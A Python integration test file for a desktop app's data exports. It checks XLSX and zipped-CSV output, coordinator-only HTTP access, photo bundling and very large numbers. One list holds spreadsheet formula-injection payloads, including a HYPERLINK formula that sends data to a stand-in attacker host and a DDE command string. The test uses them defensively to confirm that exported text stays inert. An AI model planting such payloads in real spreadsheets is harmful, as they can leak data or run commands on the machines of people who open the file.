"""Coordinator exports: XLSX and zipped CSV, by the CLI and over HTTP, with photos on request."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import zipfile

import pytest
from openpyxl import load_workbook

from score_desktop.exchange import labels
from score_desktop.exchange.sheets import sheet_keys

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def synced(sqlite_server):
    """A trainer's enterprise with a visit, a finding and a photo (uploaded), plus a deleted visit."""
    trainer = sqlite_server.device()
    enterprise_id = trainer.create_enterprise(name="东莞华美制衣厂", name_latin="Dongguan Huamei Garments",
                                              sponsors=["Brand A", "Brand B"])
    visit_id, _ = trainer.create_visit(enterprise_id, visit_date="2024-05-02", summary="Exits\tcleared")
    observation = trainer.mutation("observation", None, {"enterprise_id": enterprise_id, "visit_id": visit_id,
                                                         "text": "出口堵塞", "rating": "critical"})
    assert trainer.push_one(observation)["status"] == "applied"
    photo = os.urandom(2048)
    assert trainer.push_one(trainer.mutation("photo", None, trainer.photo_fields(
        enterprise_id, visit_id, photo, mime="image/png")))["status"] == "applied"
    assert trainer.tus_upload(photo).status_code == 204
    gone, version = trainer.create_visit(enterprise_id, summary="deleted one")
    assert trainer.push_one(trainer.mutation("visit", gone, op="delete", base_version=version))["status"] \
        == "applied"
    return {"enterprise_id": enterprise_id, "visit_id": visit_id, "deleted_visit": gone, "photo": photo,
            "trainer": trainer.username}


def _sheet_rows(workbook, name: str) -> list[dict]:
    rows = list(workbook[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_xlsx_has_the_shared_sheets_readable_headers_dates_both_names_and_authors(sqlite_server, synced, cli,
                                                                                  tmp_path):
    target = tmp_path / "export.xlsx"
    done = cli("export", "--format", "xlsx", "-o", str(target), data=sqlite_server.data)
    assert done.returncode == 0, done.stderr
    workbook = load_workbook(target)
    assert workbook.sheetnames == [labels.sheet_name("en", key) for key in [*sheet_keys(), "conflict"]]
    visits = {row["ID"]: row for row in _sheet_rows(workbook, "Visits")}
    assert synced["deleted_visit"] not in visits
    visit = visits[synced["visit_id"]]
    assert visit["Enterprise"] == "东莞华美制衣厂"
    assert visit["Enterprise (Latin script)"] == "Dongguan Huamei Garments"
    assert isinstance(visit["Visit date"], dt.datetime) and visit["Visit date"].date() == dt.date(2024, 5, 2)
    assert visit["Visit type code"] == "baseline" and visit["Visit type"] == "Baseline"
    assert visit["Module code"] == "WC" and visit["Module"] == "Workplace Cooperation"
    assert visit["Created by"] == visit["Last changed by"] == visit["Trainer (account)"] == synced["trainer"]
    enterprise = {row["ID"]: row for row in _sheet_rows(workbook, "Enterprises")}[synced["enterprise_id"]]
    assert enterprise["Sponsors"] == "Brand A; Brand B"
    sponsors = [row["Sponsor"] for row in _sheet_rows(workbook, "Sponsors")
                if row["Enterprise ID"] == synced["enterprise_id"]]
    assert sponsors == ["Brand A", "Brand B"]
    observation = [row for row in _sheet_rows(workbook, "Findings") if row["Visit ID"] == synced["visit_id"]]
    assert observation and observation[0]["Text"] == "出口堵塞"
    assert observation[0]["Rating code"] == "critical" and observation[0]["Rating"] == "Critical"
    assert observation[0]["Created by"] == synced["trainer"]


def test_csv_zip_with_photos(sqlite_server, synced, cli, tmp_path):
    target = tmp_path / "export.zip"
    done = cli("export", "--format", "csv", "--photos", "-o", str(target), data=sqlite_server.data)
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(target) as archive:
        names = set(archive.namelist())
        assert {f"{key}.csv" for key in sheet_keys()} | {"conflict.csv"} <= names
        visits = list(csv.DictReader(io.StringIO(archive.read("visit.csv").decode("utf-8-sig"))))
        photos = [name for name in names if name.startswith("photos/")]
        stored = {archive.read(name) for name in photos}
    visit = next(row for row in visits if row["ID"] == synced["visit_id"])
    assert visit["Visit date"] == "2024-05-02" and visit["Enterprise"] == "东莞华美制衣厂"
    assert synced["photo"] in stored and any(name.endswith(".png") for name in photos)


def test_exports_over_http_are_for_coordinators_only(sqlite_server, synced):
    trainer, coordinator = sqlite_server.device(), sqlite_server.device("coordinator")
    refused = trainer.get("/exports", params={"format": "xlsx"})
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"
    answer = coordinator.get("/exports", params={"format": "xlsx"})
    assert answer.status_code == 200
    workbook = load_workbook(io.BytesIO(answer.content))
    assert synced["visit_id"] in {row["ID"] for row in _sheet_rows(workbook, "Visits")}
    chinese = coordinator.get("/exports", params={"format": "xlsx", "lang": "zh_CN"})
    assert chinese.status_code == 200 and "走访" in load_workbook(io.BytesIO(chinese.content)).sheetnames
    assert coordinator.get("/exports", params={"format": "xlsx", "lang": "de"}).status_code == 400
    zipped = coordinator.get("/exports", params={"format": "csv"})
    assert zipped.status_code == 200 and zipfile.ZipFile(io.BytesIO(zipped.content)).namelist()


FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Open report")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1"]


def test_text_that_looks_like_a_formula_stays_text(sqlite_server, cli, tmp_path):
    """Issue 10, item 5: a name written as a formula must never become a live formula in a spreadsheet."""
    trainer = sqlite_server.device()
    ids = [trainer.create_enterprise(name=text, city=text) for text in FORMULAS]
    visits = {trainer.create_visit(enterprise_id, summary=text)[0]: text for enterprise_id, text in zip(ids, FORMULAS)}

    xlsx = tmp_path / "export.xlsx"
    assert cli("export", "--format", "xlsx", "-o", str(xlsx), data=sqlite_server.data).returncode == 0
    with zipfile.ZipFile(xlsx) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
    workbook = load_workbook(xlsx)
    rows = {row[0].value: row for row in workbook["Enterprises"].iter_rows(min_row=2)}
    headers = [cell.value for cell in next(workbook["Enterprises"].iter_rows(max_row=1))]
    for enterprise_id, text in zip(ids, FORMULAS):
        for column in ("Name", "City"):
            cell = rows[enterprise_id][headers.index(column)]
            assert cell.data_type == "s" and cell.value == text  # the trainer's text, exactly, as text
    visit_rows = {row[0].value: row for row in workbook["Visits"].iter_rows(min_row=2)}
    visit_headers = [cell.value for cell in next(workbook["Visits"].iter_rows(max_row=1))]
    for visit_id, text in visits.items():
        for column in ("Enterprise", "Summary"):
            cell = visit_rows[visit_id][visit_headers.index(column)]
            assert cell.data_type == "s" and cell.value == text

    zipped = tmp_path / "export.zip"
    assert cli("export", "--format", "csv", "-o", str(zipped), data=sqlite_server.data).returncode == 0
    with zipfile.ZipFile(zipped) as archive:
        enterprises = {row["ID"]: row for row in csv.DictReader(
            io.StringIO(archive.read("enterprise.csv").decode("utf-8-sig"), newline=""))}
        visit_rows_csv = {row["ID"]: row for row in csv.DictReader(
            io.StringIO(archive.read("visit.csv").decode("utf-8-sig"), newline=""))}
    for enterprise_id, text in zip(ids, FORMULAS):
        for column in ("Name", "City"):
            assert enterprises[enterprise_id][column] == "'" + text  # a leading apostrophe: text to Excel
    for visit_id, text in visits.items():
        for column in ("Enterprise", "Summary"):
            assert visit_rows_csv[visit_id][column] == "'" + text


def test_a_number_no_spreadsheet_holds_is_exported_as_its_digits(server_pool, cli, tmp_path):
    """A server that stored an integer past 2^53 before it refused them (issue 10, item 1) still exports."""
    import json as json_module

    from sqlalchemy import select, update

    from score_desktop.server import db, schema

    sqlite_server = server_pool.fresh("sqlite", "big-numbers").start()  # the shared servers stay clean
    trainer = sqlite_server.device()
    enterprise_id = trainer.create_enterprise(name="Big Numbers Ltd")
    records = schema.records
    with db.writing(sqlite_server.engine) as conn:
        fields = json_module.loads(conn.scalar(select(records.c.fields).where(records.c.id == enterprise_id)))
        conn.execute(update(records).where(records.c.id == enterprise_id).values(
            fields=json_module.dumps({**fields, "headcount_women": 2**70, "headcount_men": 10**400})))
    for fmt, name in (("xlsx", "export.xlsx"), ("csv", "export.zip")):
        done = cli("export", "--format", fmt, "-o", str(tmp_path / name), data=sqlite_server.data)
        assert done.returncode == 0, done.stderr
    workbook = load_workbook(tmp_path / "export.xlsx")
    row = {row["ID"]: row for row in _sheet_rows(workbook, "Enterprises")}[enterprise_id]
    assert row["Women"] == str(2**70) and row["Men"] == str(10**400)
